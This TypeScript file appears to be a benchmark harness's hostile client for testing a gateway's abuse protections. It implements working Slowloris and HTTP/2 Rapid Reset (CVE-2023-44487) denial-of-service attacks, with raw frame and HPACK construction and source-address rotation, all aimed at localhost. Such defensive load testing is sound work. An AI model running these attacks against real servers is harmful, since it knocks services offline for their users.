// A hostile client in its own process, so its CPU shows as the attacker's and not as the harness's
// (which also serves the tiny upstream). Run by bench/scenarios/abuse.ts:
//   node attacker.ts slowloris PORT COUNT IPS DRIP_MS   (IPS: how many source addresses, 127.0.1.x)
//   node attacker.ts rapid-reset PORT CONNECTIONS TOKEN
// It attacks until SIGTERM, then prints one JSON line of counters and exits.
import { connect as netConnect } from 'node:net';
import { connect as tlsConnect, type TLSSocket } from 'node:tls';

const [mode, portArg, countArg, a3, a4] = process.argv.slice(2);
const port = Number(portArg);
const count = Number(countArg);
const stats: Record<string, number> = {
  opened: 0,
  closedByServer: 0,
  errors: 0,
  open: 0,
  maxOpen: 0,
  headerBytesSent: 0,
  streamsReset: 0,
  goaways: 0,
};
let stopping = false;

function bump(name: string, by = 1): void {
  stats[name] = (stats[name] ?? 0) + by;
}

// Slowloris: a TLS connection (HTTP/1.1 by ALPN) that starts a request and then sends one header
// line every DRIP_MS, never finishing the head. When the gateway closes it, it comes back.
function slowloris(ips: number, dripMs: number): void {
  const socketsPerIP = Math.ceil(count / ips);
  let started = 0;
  const open = (i: number): void => {
    if (stopping) return;
    const localAddress = `127.0.1.${1 + Math.floor(i / socketsPerIP)}`;
    const s: TLSSocket = tlsConnect({
      socket: netConnect({ host: '127.0.0.1', port, localAddress }),
      rejectUnauthorized: false,
      ALPNProtocols: ['http/1.1'],
    });
    let timer: NodeJS.Timeout | null = null;
    s.once('secureConnect', () => {
      bump('opened');
      bump('open');
      if (stats.open > stats.maxOpen) stats.maxOpen = stats.open;
      const first = 'GET /api/v1/namespaces HTTP/1.1\r\nHost: 127.0.0.1\r\n';
      s.write(first);
      bump('headerBytesSent', first.length);
      timer = setInterval(() => {
        const line = `X-Slow-${Math.floor(Math.random() * 1e6)}: x\r\n`;
        s.write(line);
        bump('headerBytesSent', line.length);
      }, dripMs);
    });
    s.on('error', () => bump('errors'));
    s.once('close', () => {
      if (timer) {
        clearInterval(timer);
        bump('open', -1);
        if (!stopping) bump('closedByServer');
      }
      // Reconnect, a little later so a refused burst does not spin.
      if (!stopping) setTimeout(() => open(i), 200 + Math.random() * 300);
    });
  };
  // Ramp: 500 new connections per second, so the handshakes do not all land in one instant.
  const ramp = setInterval(() => {
    for (let k = 0; k < 50 && started < count; k++) open(started++);
    if (started >= count) clearInterval(ramp);
  }, 100);
}

// Rapid reset (CVE-2023-44487), written as raw frames: HEADERS (END_STREAM) immediately followed
// by RST_STREAM(CANCEL) for the same stream, 100 pairs per write, as fast as the socket drains.
// (Node's own client never sends the HEADERS of a stream closed before it was flushed.) A closed
// connection is replaced by a new one.
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
}

// HPACK literal header fields without indexing, no Huffman (names and values < 127 bytes).
function hpack(fields: [string, string][]): Buffer {
  const out: Buffer[] = [];
  for (const [n, v] of fields)
    out.push(Buffer.from([0, n.length]), Buffer.from(n), Buffer.from([v.length]), Buffer.from(v));
  return Buffer.concat(out);
}

function rapidReset(connections: number, token: string): void {
  const block = hpack([
    [':method', 'GET'],
    [':scheme', 'https'],
    [':path', '/api/v1/namespaces/default/configmaps/bench'],
    [':authority', '127.0.0.1'],
    ['authorization', `Bearer ${token}`],
  ]);
  const cancel = Buffer.from([0, 0, 0, 8]);
  const one = (): void => {
    if (stopping) return;
    // From an address of its own (an attacker is not the well-behaved client on 127.0.0.1, and the
    // gateway refuses an address it closed for rapid reset for a while: clientLimits.prematureResets).
    const s = tlsConnect({
      socket: netConnect({ host: '127.0.0.1', port, localAddress: '127.0.2.1' }),
      rejectUnauthorized: false,
      ALPNProtocols: ['h2'],
    });
    let id = 1;
    let alive = true;
    s.on('error', () => bump('errors'));
    s.on('data', (c: Buffer) => {
      // A GOAWAY frame header (type 7) anywhere in what the server sent.
      for (let i = 0; i + 9 <= c.length; i++)
        if (c[i + 3] === 7 && c[i] === 0 && c[i + 1] === 0) bump('goaways');
    });
    s.once('close', () => {
      alive = false;
      if (!stopping) {
        bump('closedByServer');
        setTimeout(one, 50);
      }
    });
    const burst = (): void => {
      if (!alive || stopping) return;
      const frames: Buffer[] = [];
      for (let k = 0; k < 100 && id < 0x7fffffff; k++, id += 2) {
        frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
        bump('streamsReset');
      }
      if (s.write(Buffer.concat(frames))) setImmediate(burst);
      else s.once('drain', burst);
    };
    s.once('secureConnect', () => {
      bump('opened');
      s.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0)), frame(4, 1, 0, Buffer.alloc(0))]));
      burst();
    });
  };
  for (let i = 0; i < connections; i++) one();
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

process.on('SIGTERM', () => {
  stopping = true;
  process.stdout.write(`${JSON.stringify(stats)}\n`, () => process.exit(0));
});

if (mode === 'slowloris') slowloris(Number(a3), Number(a4));
else if (mode === 'rapid-reset') rapidReset(count, a3 ?? '');
else {
  console.error(`attacker: unknown mode ${mode}`);
  process.exit(2);
}
